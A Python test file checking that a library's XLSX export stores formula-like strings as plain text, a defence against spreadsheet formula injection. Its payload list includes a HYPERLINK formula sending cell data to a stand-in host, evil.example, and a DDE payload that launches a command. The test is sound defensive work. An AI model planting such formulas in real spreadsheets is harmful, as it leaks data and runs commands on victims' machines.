"""The XLSX export writes text as text: a value that a spreadsheet would run as a formula
(CSV injection's payloads) arrives as the same string, not as a formula cell."""

from __future__ import annotations

import zipfile
from pathlib import Path

import polars as pl
from python_calamine import CalamineWorkbook

from conveyor.packs.workbench import export

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(A1)", "-2+3"]


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    frame = pl.DataFrame({"id": list(range(len(PAYLOADS))), "note": PAYLOADS})
    path = tmp_path / "out.xlsx"
    assert export._write_xlsx(iter([frame]), path, None) == len(PAYLOADS)
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [r[1] for r in rows[1:]] == PAYLOADS
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
